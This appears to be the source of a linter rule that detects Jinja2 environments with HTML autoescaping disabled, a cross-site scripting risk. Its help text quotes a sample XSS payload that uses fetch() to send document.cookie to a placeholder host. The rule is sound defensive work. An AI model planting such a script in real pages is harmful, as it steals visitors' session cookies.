import type { SgNode } from '@ast-grep/napi';
import { definePythonRule } from '../../../engine/rule-api.js';
import { literalValue } from '../../../languages/python/expr.js';

/** Jinja2 environments whose `autoescape` defaults to off. */
const ENVIRONMENTS = [
  'jinja2.Environment',
  'jinja2.environment.Environment',
  'jinja2.sandbox.SandboxedEnvironment',
  'jinja2.sandbox.ImmutableSandboxedEnvironment',
];

/** Signs that a file renders HTML: template names, markup, web frameworks. */
const HTML_HINT = /\.(html?|xhtml|jinja2?|j2)\b|<\/?[a-z][\w-]*[\s>/]|text\/html/i;
const WEB_MODULE =
  /^(flask|django|fastapi|starlette|aiohttp|tornado|pyramid|bottle|sanic|quart|falcon)\b/;

function rendersHtml(root: SgNode, modules: ReadonlySet<string>): boolean {
  if ([...modules].some((m) => WEB_MODULE.test(m))) return true;
  return root.findAll({ rule: { kind: 'string_content' } }).some((s) => HTML_HINT.test(s.text()));
}

export default definePythonRule({
  name: 'template-autoescape-disabled',
  title: 'Jinja2 environment without HTML autoescaping (cross-site scripting)',
  description:
    'Finds Jinja2 environments created with autoescape=False or without autoescape, whose default is off, and autoescape turned off on an existing environment.',
  cwe: [79],
  severity: 'warning',
  confidence: 'medium',
  tags: ['xss', 'template', 'jinja2'],
  messages: {
    default:
      '`{{callee}}` is created without autoescape; Jinja2 then inserts variables into HTML unescaped.',
    disabled:
      '`{{callee}}` is created with autoescape=False, so variables are inserted into HTML unescaped.',
    assigned: '`{{target}}` is set to False, so variables are inserted into HTML unescaped.',
  },
  help: {
    why: 'Jinja2 escapes nothing unless autoescaping is on, and its Environment defaults to off. Any variable rendered into an HTML page, such as a user name of `<script>fetch("//evil/?c="+document.cookie)</script>`, then becomes markup that runs in other users\' browsers (stored or reflected XSS).',
    fix: 'Create environments with `autoescape=select_autoescape(["html", "htm", "xml"])` (or `autoescape=True` when every template is HTML), and mark trusted HTML explicitly with `Markup` or the `|safe` filter. For non-HTML output (emails in plain text, config files), keep a separate environment and say so with a comment.',
  },
  inTests: 'skip',
  // Environments resolved through jinja2; assignments only in files importing jinja2 or flask.
  requires: ['jinja2', 'flask'],
  *detect(ctx) {
    let html: boolean | undefined;
    const isHtml = (): boolean => (html ??= rendersHtml(ctx.root, ctx.imports.modules));
    for (const call of ctx.calls(...ENVIRONMENTS)) {
      const value = call.keywords.get('autoescape');
      if (value === undefined) {
        if (call.hasKwargsSplat) continue;
        // Jinja2 also renders plain text (configuration, e-mail bodies), where escaping would be wrong;
        // only files that show signs of HTML are reported for the default.
        if (isHtml()) yield { node: call.node, data: { callee: call.calleeText } };
      } else if (literalValue(value) === false) {
        yield {
          node: call.node,
          messageId: 'disabled',
          data: { callee: call.calleeText },
          confidence: isHtml() ? 'high' : 'low',
        };
      }
    }
    if (![...ctx.imports.modules].some((m) => m.startsWith('jinja2') || m.startsWith('flask')))
      return;
    if (!ctx.source.includes('autoescape')) return;
    for (const asg of ctx.root.findAll({
      rule: {
        kind: 'assignment',
        has: { field: 'left', kind: 'attribute', regex: '\\.autoescape$' },
      },
    })) {
      const left = asg.field('left');
      const right = asg.field('right');
      if (left === null || right === null || literalValue(right) !== false) continue;
      const target = left.text();
      // Flask's app.jinja_env, or an environment variable of a Jinja2-using file.
      if (!/(jinja_env|env|environment)\.autoescape$/i.test(target)) continue;
      yield {
        node: asg,
        messageId: 'assigned',
        data: { target },
        confidence: isHtml() ? 'high' : 'low',
      };
    }
  },
});
